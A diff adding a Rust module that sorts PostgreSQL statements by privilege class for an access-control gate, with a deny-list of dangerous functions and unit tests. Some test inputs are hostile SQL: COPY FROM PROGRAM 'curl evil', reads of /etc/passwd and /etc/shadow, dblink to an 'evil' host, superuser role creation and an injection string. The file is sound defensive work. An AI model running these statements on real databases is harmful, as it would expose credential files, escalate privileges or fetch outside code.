@@ -1,0 +1,300 @@
+//! What a SQL statement does, decided from its syntax tree (sqlparser, PostgreSQL dialect):
+//! read, write, ddl or admin, and the tables it touches. Anything that does not parse is an
+//! error (the caller denies it): a statement is never guessed at. Anything that parses but is
+//! not known to be harmless is `admin`, the class policies grant least.
+
+use std::{collections::BTreeSet, fmt, ops::ControlFlow};
+
+use sqlparser::{
+    ast::{
+        CopyTarget, Expr, ObjectName, Set, SetExpr, Statement, visit_expressions, visit_relations,
+        visit_statements,
+    },
+    dialect::PostgreSqlDialect,
+    parser::Parser,
+};
+
+/// Ordered from least to most powerful: a statement's class is the highest of its parts.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum SqlClass {
+    Read,
+    Write,
+    Ddl,
+    Admin,
+}
+
+impl SqlClass {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            SqlClass::Read => "read",
+            SqlClass::Write => "write",
+            SqlClass::Ddl => "ddl",
+            SqlClass::Admin => "admin",
+        }
+    }
+}
+
+impl fmt::Display for SqlClass {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// One statement of a query string.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Classified {
+    pub class: SqlClass,
+    /// Relations named, as written (lower-cased unless quoted).
+    pub tables: BTreeSet<String>,
+    /// Why the class is higher than the statement kind alone says, if it is.
+    pub because: Option<String>,
+    /// The statement, re-rendered from the tree (one statement, normalised).
+    pub text: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("the statement cannot be parsed, so it is not allowed: {0}")]
+pub struct Unparseable(pub String);
+
+/// Functions that act although they are called from a SELECT.
+fn function_class(name: &str) -> Option<SqlClass> {
+    let name = name.rsplit('.').next().unwrap_or(name).trim_matches('"');
+    let lower = name.to_ascii_lowercase();
+    Some(match lower.as_str() {
+        "nextval"
+        | "setval"
+        | "set_config"
+        | "lo_create"
+        | "lo_creat"
+        | "lo_unlink"
+        | "lo_put"
+        | "lo_from_bytea"
+        | "lo_truncate"
+        | "pg_advisory_lock"
+        | "pg_advisory_xact_lock"
+        | "pg_notify" => SqlClass::Write,
+        "pg_read_file"
+        | "pg_read_binary_file"
+        | "pg_ls_dir"
+        | "pg_stat_file"
+        | "lo_import"
+        | "lo_export"
+        | "pg_terminate_backend"
+        | "pg_cancel_backend"
+        | "pg_reload_conf"
+        | "pg_rotate_logfile"
+        | "pg_switch_wal"
+        | "pg_create_restore_point"
+        | "pg_promote"
+        | "pg_file_write"
+        | "pg_logdir_ls"
+        | "query_to_xml"
+        | "pg_create_logical_replication_slot"
+        | "pg_create_physical_replication_slot"
+        | "pg_drop_replication_slot" => SqlClass::Admin,
+        _ if lower.starts_with("dblink") || lower.starts_with("pg_ls_") => SqlClass::Admin,
+        _ => return None,
+    })
+}
+
+/// The class of one statement node, ignoring nested statements and function calls.
+fn statement_class(stmt: &Statement) -> SqlClass {
+    use SqlClass::*;
+    match stmt {
+        Statement::Query(q) => match q.body.as_ref() {
+            SetExpr::Select(s) if s.into.is_some() => Ddl,
+            _ => Read,
+        },
+        Statement::Insert(_)
+        | Statement::Update(_)
+        | Statement::Delete(_)
+        | Statement::Merge(_) => Write,
+        Statement::Copy { to, target, .. } => match target {
+            CopyTarget::Stdin | CopyTarget::Stdout if *to => Read,
+            CopyTarget::Stdin | CopyTarget::Stdout => Write,
+            // Server-side files and programs: the database host's file system and shell.
+            CopyTarget::File { .. } | CopyTarget::Program { .. } => Admin,
+        },
+        Statement::Explain { .. }
+        | Statement::ExplainTable { .. }
+        | Statement::StartTransaction { .. }
+        | Statement::Commit { .. }
+        | Statement::Rollback { .. }
+        | Statement::Savepoint { .. }
+        | Statement::ReleaseSavepoint { .. }
+        | Statement::ShowVariable { .. }
+        | Statement::ShowVariables { .. }
+        | Statement::Declare { .. }
+        | Statement::Fetch { .. }
+        | Statement::Close { .. }
+        | Statement::Discard { .. }
+        | Statement::Deallocate { .. }
+        | Statement::Prepare { .. } => Read,
+        Statement::Set(set) => match set {
+            Set::SetRole { .. } | Set::SetSessionAuthorization(_) => Admin,
+            Set::SingleAssignment { variable, .. } => {
+                let name = variable.to_string().to_ascii_lowercase();
+                if name.contains("role") || name.contains("session_authorization") {
+                    Admin
+                } else {
+                    Read
+                }
+            }
+            _ => Read,
+        },
+        Statement::Truncate(_)
+        | Statement::CreateTable(_)
+        | Statement::CreateView(_)
+        | Statement::CreateIndex(_)
+        | Statement::CreateSequence { .. }
+        | Statement::CreateType { .. }
+        | Statement::CreateDomain(_)
+        | Statement::CreateSchema { .. }
+        | Statement::AlterTable(_)
+        | Statement::AlterIndex { .. }
+        | Statement::AlterView { .. }
+        | Statement::AlterType(_)
+        | Statement::Drop { .. }
+        | Statement::Comment { .. }
+        | Statement::RenameTable(_) => Ddl,
+        // Roles, grants, extensions, functions (code), server settings, anything else.
+        _ => Admin,
+    }
+}
+
+/// Splits and classifies a query string (simple query protocol strings may hold several
+/// statements).
+pub fn classify(sql: &str) -> Result<Vec<Classified>, Unparseable> {
+    let statements =
+        Parser::parse_sql(&PostgreSqlDialect {}, sql).map_err(|e| Unparseable(e.to_string()))?;
+    Ok(statements.iter().map(classify_statement).collect())
+}
+
+fn classify_statement(stmt: &Statement) -> Classified {
+    let mut class = SqlClass::Read;
+    let mut because = None;
+    let _ = visit_statements(stmt, |s| {
+        class = class.max(statement_class(s));
+        ControlFlow::<()>::Continue(())
+    });
+    let _ = visit_expressions(stmt, |e| {
+        if let Expr::Function(f) = e
+            && let Some(fc) = function_class(&f.name.to_string())
+            && fc > class
+        {
+            class = fc;
+            because = Some(format!("calls {}()", f.name));
+        }
+        ControlFlow::<()>::Continue(())
+    });
+    let mut tables = BTreeSet::new();
+    let _ = visit_relations(stmt, |name: &ObjectName| {
+        tables.insert(name.to_string());
+        ControlFlow::<()>::Continue(())
+    });
+    Classified {
+        class,
+        tables,
+        because,
+        text: stmt.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn class(sql: &str) -> SqlClass {
+        let all = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
+        assert_eq!(all.len(), 1, "{sql}");
+        all[0].class
+    }
+
+    #[test]
+    fn statements_fall_into_their_class() {
+        use SqlClass::*;
+        for (sql, want) in [
+            ("SELECT id, email FROM customers WHERE id = $1", Read),
+            ("select 1", Read),
+            ("BEGIN", Read),
+            ("COMMIT", Read),
+            ("SET statement_timeout = 5000", Read),
+            ("EXPLAIN SELECT * FROM t", Read),
+            ("COPY customers TO STDOUT", Read),
+            ("INSERT INTO orders VALUES (1)", Write),
+            ("UPDATE orders SET total = 0", Write),
+            ("DELETE FROM customers WHERE id = 1", Write),
+            ("COPY customers FROM STDIN", Write),
+            (
+                "WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone",
+                Write,
+            ),
+            ("SELECT nextval('orders_id_seq')", Write),
+            ("SELECT set_config('role', 'postgres', false)", Write),
+            ("CREATE TABLE x (a int)", Ddl),
+            ("DROP TABLE customers", Ddl),
+            ("TRUNCATE customers", Ddl),
+            ("ALTER TABLE t ADD COLUMN b int", Ddl),
+            ("SELECT * INTO copy_of FROM customers", Ddl),
+            ("GRANT ALL ON customers TO agent", Admin),
+            ("CREATE ROLE boss SUPERUSER", Admin),
+            ("SET ROLE postgres", Admin),
+            ("SET SESSION AUTHORIZATION postgres", Admin),
+            ("COPY customers TO '/tmp/x'", Admin),
+            ("COPY customers FROM PROGRAM 'curl evil'", Admin),
+            ("SELECT pg_read_file('/etc/passwd')", Admin),
+            ("SELECT lo_import('/etc/shadow')", Admin),
+            (
+                "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
+                Admin,
+            ),
+            ("CREATE EXTENSION dblink", Admin),
+            ("VACUUM customers", Admin),
+            (
+                "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
+                Admin,
+            ),
+        ] {
+            assert_eq!(class(sql), want, "{sql}");
+        }
+    }
+
+    #[test]
+    fn tables_and_multiple_statements() {
+        let all = classify(
+            "SELECT * FROM public.customers c JOIN orders o ON o.c = c.id; DELETE FROM orders",
+        )
+        .expect("parses");
+        assert_eq!(all.len(), 2);
+        assert_eq!(
+            all[0].tables.iter().map(String::as_str).collect::<Vec<_>>(),
+            ["orders", "public.customers"]
+        );
+        assert_eq!(all[1].class, SqlClass::Write);
+        assert_eq!(
+            classify("SELECT pg_read_file('x')").expect("parses")[0]
+                .because
+                .as_deref(),
+            Some("calls pg_read_file()")
+        );
+    }
+
+    #[test]
+    fn garbage_is_unparseable() {
+        for sql in ["SELEC 1", "DELETE FROM", "'; DROP TABLE x; --", "\u{0}"] {
+            assert!(classify(sql).is_err(), "{sql:?}");
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn classify_never_panics(sql in "\\PC{0,120}") {
+            let _ = classify(&sql);
+        }
+
+        #[test]
+        fn sql_like_text_never_panics(sql in "(SELECT|INSERT|DELETE|FROM|WHERE|INTO|VALUES|WITH|AS|COPY|TO|SET|ROLE|[a-z_]{1,6}|[(),;*=' $0-9.])*") {
+            let _ = classify(&sql);
+        }
+    }
+}
